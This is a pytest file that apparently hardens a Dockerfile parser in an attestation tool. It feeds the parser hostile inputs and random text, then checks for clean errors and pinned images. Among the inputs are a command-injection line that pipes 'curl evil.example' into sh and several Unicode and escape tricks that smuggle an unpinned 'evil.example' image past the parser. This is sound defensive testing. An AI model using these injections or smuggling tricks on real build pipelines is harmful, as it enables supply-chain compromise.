"""Hostile Dockerfiles: every one ends in one clear InputError (exit 3), never a crash or a
runaway; property tests feed the parser arbitrary text."""

from __future__ import annotations

import tracemalloc

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from oci_attest.build.check import unpinned_references
from oci_attest.cli import cli
from oci_attest.collect.materials import (
    MAX_DOCKERFILE_BYTES,
    parse_dockerfile,
    pinned_dockerfile,
    resolve_images,
)
from oci_attest.errors import InputError

HOSTILE = {
    "unterminated heredoc": "FROM alpine\nRUN <<EOF\necho never ends\n",
    "unterminated dash heredoc": "FROM alpine\nCOPY <<-'END' /x\n  text\n",
    "self-referencing ARG": "ARG A=${A}\nFROM ${A}\n",
    "mutually referencing ARGs": "ARG B=$C\nARG C=$B\nFROM img:${B}\n",
    "doubling ARGs": "ARG A0=xx\n" + "".join(f"ARG A{i}=${{A{i - 1}}}${{A{i - 1}}}\n"
                                           for i in range(1, 40)) + "FROM alpine:${A39}\n",
    "injection in FROM": "FROM alpine;curl evil.example|sh\n",
    "command substitution in FROM": "FROM $(id)\n",
    "path traversal in FROM": "FROM ../../etc/passwd\n",
    "bad digest in FROM": "FROM alpine@sha256:1234\n",
    "uppercase digest": "FROM alpine@sha256:" + "A" * 64 + "\n",
    "FROM without image": "FROM\n",
    "undefined ARG in FROM": "FROM ${NOPE}\n",
    "enormous line over the limit": "FROM alpine\nRUN echo " + "a" * MAX_DOCKERFILE_BYTES + "\n",
    "not UTF-8": b"FROM alpine\nRUN echo \xff\xfe\n",
    "binary garbage": bytes(range(256)) * 64,
    "too many instructions": "FROM alpine\n" + "RUN true\n" * 10_001,
    # Issue 14: input attest's parser and the engine could read differently.
    "escape after an empty syntax directive": "# syntax=\n# escape=`\nFROM a:1\nRUN x `\n"
                                              "FROM evil.example/evil:latest\n",
    "escape after a blank line": "\n# escape=`\nFROM a:1\n",
    "form feed in a comment": "# note\x0cFROM evil.example/evil:latest\nFROM a:1\n",
    "NEL line break": "FROM a:1\x85FROM evil.example/evil:latest\n",
    "U+2028 line break": "FROM a:1\u2028FROM evil.example/evil:latest\n",
    "lone carriage return": "RUN true\rFROM evil.example/evil:latest\nFROM a:1\n",
    "no-break space": "FROM\u00a0evil.example/evil:latest\n",
    "BOM in the middle": "FROM a:1\n\ufeffFROM evil.example/evil:latest\n",
    "malformed escape directive": "# escape=x\nFROM a:1\n",
    "unsupported substitution": "FROM a:1\nCOPY --from=${X:?} / /\n",
    # Found by test_whatever_the_parser_accepts_is_pinned_for_the_engine:
    "a line of only the escape character": "FROM a:1\n\\\nFROM evil.example/evil:latest\n",
    "ends inside a continuation": "FROM a:1\nCOPY --from=evil.example/e:1 / / \\\n# c\n\n",
    "FROM continued into another instruction": "FROM a:1 \\\nCOPY --from=b / /\n",
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_dockerfile_is_one_clear_error(name, tmp_path):
    content = HOSTILE[name]
    path = tmp_path / "Dockerfile"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    tracemalloc.start()
    try:
        with pytest.raises(InputError) as raised:
            parse_dockerfile(path, {})
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "\n" not in raised.value.render()
    assert peak < 64 * 1024 * 1024, f"{name}: {peak} bytes"


def test_an_enormous_line_within_the_limit_parses_quickly(tmp_path):
    path = tmp_path / "Dockerfile"
    path.write_text("FROM alpine:3.20\nRUN echo " + "a" * (MAX_DOCKERFILE_BYTES - 100) + "\n")
    facts = parse_dockerfile(path, {})
    assert [str(i.reference) for i in facts.images] == ["docker.io/library/alpine:3.20"]


@pytest.mark.parametrize("name", ["unterminated heredoc", "form feed in a comment",
                                  "escape after an empty syntax directive"])
def test_attest_build_reports_a_hostile_dockerfile_in_one_line(tmp_path, name):
    (tmp_path / "Dockerfile").write_bytes(HOSTILE[name].encode())
    result = CliRunner().invoke(cli, ["build", str(tmp_path), "-t", "127.0.0.1:9/x/y:1",
                                      "--no-sign", "-o", str(tmp_path / "out")])
    assert result.exit_code == 3, result.output
    assert "Traceback" not in result.output
    assert result.stderr.strip().splitlines()[-1].startswith("attest: bad input:")


_lines = st.one_of(
    st.sampled_from(["FROM alpine", "FROM ${X}", "FROM a AS b", "FROM b", "ARG X=1", "ARG X",
                     "ARG Y=$X$X", "COPY --from=a / /", "COPY --from=${X} / /",
                     "RUN --mount=type=bind,from=img:1,target=/x true", "ADD https://e.x/f /f",
                     "RUN <<EOF", "EOF", "RUN <<-'E'", "E", "\\", "# comment", "",
                     "FROM --platform=linux/amd64 img@sha256:" + "a" * 64,
                     "# escape=`", "# syntax=", "RUN echo `", "\ufeffFROM c:1", "FROM d:1 \\",
                     "  AS e", "ADD [\"$X\", \"/b\"]", "ENV X=http://e.x/y", "\x0cFROM f:1",
                     "FROM \\", "# note\x85FROM g:1", "\tFROM h:2", "from i:3 as j"]),
    st.text(max_size=40))


@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                  HealthCheck.function_scoped_fixture])
@given(lines=st.lists(_lines, max_size=25), args=st.dictionaries(
    st.sampled_from(["X", "Y", "Z"]), st.text(max_size=20), max_size=3))
def test_parser_raises_only_input_errors(tmp_path, lines, args):
    path = tmp_path / "Dockerfile"
    path.write_bytes(("\n".join(lines) + "\n").encode("utf-8", "surrogatepass"))
    try:
        facts = parse_dockerfile(path, args)
    except InputError as error:
        assert "\n" not in error.render()
        return
    for image in facts.images:
        assert image.reference.registry and image.reference.repository


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                  HealthCheck.function_scoped_fixture])
@given(lines=st.lists(_lines, max_size=25), args=st.dictionaries(
    st.sampled_from(["X", "Y", "Z"]), st.sampled_from(["k:1", "reg.example/l:2", ""]),
    max_size=3))
def test_whatever_the_parser_accepts_is_pinned_for_the_engine(tmp_path, lines, args):
    """Every Dockerfile attest accepts comes out with every FROM and --from pinned, judged by
    the line-based check that does not use the parser (the class of issue 14 items 1-3)."""
    path = tmp_path / "Dockerfile"
    path.write_bytes(("\n".join(lines) + "\n").encode("utf-8", "surrogatepass"))
    try:
        facts = parse_dockerfile(path, args)
        if facts.heredocs:
            return
        resolve_images(facts, lambda ref: ref.with_digest("sha256:" + "b" * 64))
        pinned = pinned_dockerfile(facts).decode()
    except InputError:
        return
    assert unpinned_references(pinned) == [], pinned
